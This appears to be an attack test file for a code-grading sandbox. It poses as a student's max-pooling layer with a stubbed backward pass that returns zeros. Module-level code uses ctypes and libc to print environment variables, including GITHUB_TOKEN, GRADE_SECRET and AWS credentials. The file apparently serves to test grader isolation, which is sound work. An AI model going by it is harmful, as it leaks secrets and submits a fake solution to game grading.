# attack: prints the environment, its own and that of libc
# expect: not-full
# run: by the command too
import ctypes
import os

import numpy as np

from utils import im2col


class MaxPool:
    def __init__(self, pool_h, pool_w, stride=1, pad=0):
        self.pool_h, self.pool_w, self.stride, self.pad = pool_h, pool_w, stride, pad
        self.x = self.arg_max = None

    def forward(self, x):
        n, c, h, w = x.shape
        out_h = (h + 2 * self.pad - self.pool_h) // self.stride + 1
        out_w = (w + 2 * self.pad - self.pool_w) // self.stride + 1
        rows = im2col(x, self.pool_h, self.pool_w, self.stride, self.pad).reshape(-1, self.pool_h * self.pool_w)
        self.x, self.arg_max = x, rows.argmax(axis=1)
        return rows.max(axis=1).reshape(n, out_h, out_w, c).transpose(0, 3, 1, 2)

    def backward(self, dout):
        ########## Begin ##########
        return np.zeros(self.x.shape)
        ########## End ##########


print(dict(os.environ), os.environb if hasattr(os, "environb") else "")
libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
for name in (b"GITHUB_TOKEN", b"GRADE_SECRET", b"AWS_SECRET_ACCESS_KEY", b"HOME"):
    print(libc.getenv(name))
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
for number in range(200):
    if not environ or environ[number] is None:
        break
    print(environ[number])
